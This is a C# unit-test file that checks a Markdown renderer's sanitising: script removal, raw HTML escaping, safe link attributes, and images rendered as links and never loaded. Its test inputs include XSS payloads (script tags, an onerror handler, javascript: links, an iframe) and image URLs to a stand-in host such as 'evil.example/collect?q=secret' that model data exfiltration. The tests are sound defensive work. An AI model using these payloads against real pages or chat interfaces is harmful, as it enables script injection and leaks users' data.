using StarStudio.Web.Markdown;

namespace StarStudio.Tests.Unit.Markdown;

public class MarkdownRendererTests
{
    private readonly MarkdownRenderer renderer = new();

    [Fact]
    public void ToHtml_OrdinaryMarkdown_RendersHeadingsListsAndTables()
    {
        var html = renderer.ToHtml("# 古籍\n\n- 宣纸\n- 竹纸\n\n| a | b |\n|---|---|\n| 1 | 2 |");

        Assert.Contains("<h1", html);
        Assert.Contains("<li>宣纸</li>", html);
        Assert.Contains("<table>", html);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("[click](javascript:alert(1))")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<iframe src=\"https://evil.example\"></iframe>")]
    public void ToHtml_ScriptInAnyForm_DoesNotSurvive(string markdown)
    {
        // What matters is what a browser would run: elements and attributes, not the escaped text of them.
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + renderer.ToHtml(markdown) + "</body>");
        var elements = document.Body!.QuerySelectorAll("*");

        Assert.Empty(document.QuerySelectorAll("script, iframe, object, embed"));
        Assert.DoesNotContain(elements, e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        Assert.DoesNotContain(elements, e => e.Attributes.Any(a => a.Value.TrimStart().StartsWith("javascript:", StringComparison.OrdinalIgnoreCase)));
    }

    [Fact]
    public void ToHtml_RawHtml_IsShownAsTextNotMarkup()
    {
        var html = renderer.ToHtml("<b>bold?</b>");

        Assert.Contains("&lt;b&gt;", html);
    }

    [Fact]
    public void ToHtml_Links_OpenWithoutOpener()
    {
        var html = renderer.ToHtml("[星图](https://example.org)");

        Assert.Contains("href=\"https://example.org\"", html);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html);
    }

    [Theory]
    [InlineData("![chart](https://evil.example/collect?q=secret)", "https://evil.example/collect?q=secret")]
    [InlineData("![](http://evil.example/p.png)", "http://evil.example/p.png")]
    [InlineData("![x](//evil.example/p.png)", "//evil.example/p.png")]
    [InlineData("![x][ref]\n\n[ref]: https://evil.example/r.png", "https://evil.example/r.png")]
    [InlineData("[![badge](https://evil.example/b.svg)](https://example.org)", "https://evil.example/b.svg")]
    public void ToHtml_Image_IsALinkNeverLoaded(string markdown, string url)
    {
        var html = renderer.ToHtml(markdown);

        // No element that a browser fetches by itself may carry the URL.
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("src=", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("srcset", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(System.Net.WebUtility.HtmlEncode(url).Replace("&#39;", "'", StringComparison.Ordinal), html, StringComparison.Ordinal);
    }

    [Fact]
    public void ToHtml_Image_KeepsItsAltTextAsTheLinkText()
    {
        var html = renderer.ToHtml("![the chart](https://example.org/c.png)");

        Assert.Contains(">\U0001F5BC the chart</a>", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
    }
}
